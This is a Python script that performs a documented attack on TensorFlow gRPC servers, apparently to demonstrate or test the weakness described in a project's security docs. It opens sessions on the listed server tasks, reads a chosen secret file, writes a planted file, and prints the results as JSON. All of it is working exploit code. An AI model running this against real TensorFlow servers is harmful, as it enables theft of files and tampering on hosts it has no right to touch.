"""The attack of docs/security.md, as another program of this machine (or of another host) would
run it: open a TensorFlow session on a task's port and run, on that task, an op that reads a
file and one that writes a file.

    python attack_tf_server.py TIMEOUT_S SECRET_PATH PLANTED_PATH HOST:PORT@DEVICE...

Prints one JSON line per target, in their order: ``{"target": ..., "read": <the file's text or
null>, "error": <the error or null>}``. The targets are attacked at the same time (each in a
session of its own, with its own timeout): a job that does not answer costs TIMEOUT_S once, not
once per target.
"""

import json
import os
import sys
from concurrent.futures import ThreadPoolExecutor

os.environ.setdefault('TF_CPP_MIN_LOG_LEVEL', '2')


def attack(tf, target, device, secret, planted, timeout):
    tfv1 = tf.compat.v1
    with tfv1.Graph().as_default():
        with tf.device(device):
            content = tf.io.read_file(secret)
            write = tf.io.write_file(planted, tf.constant('planted by another program'))
        config = tfv1.ConfigProto(operation_timeout_in_ms=int(timeout * 1000))
        try:
            with tfv1.Session('grpc://' + target, config=config) as sess:
                text, _ = sess.run([content, write])
            return {'read': text.decode('utf-8'), 'error': None}
        except tf.errors.OpError as err:
            return {'read': None, 'error': '{}: {}'.format(type(err).__name__, err.message.splitlines()[0])}


def main(timeout, secret, planted, *targets):
    import tensorflow as tf
    tf.compat.v1.disable_eager_execution()

    def run(target):
        address, device = target.split('@', 1)
        return dict(attack(tf, address, device, secret, planted, float(timeout)), target=target)

    with ThreadPoolExecutor(max_workers=len(targets)) as pool:
        for result in pool.map(run, targets):
            print(json.dumps(result), flush=True)


if __name__ == '__main__':
    main(*sys.argv[1:])
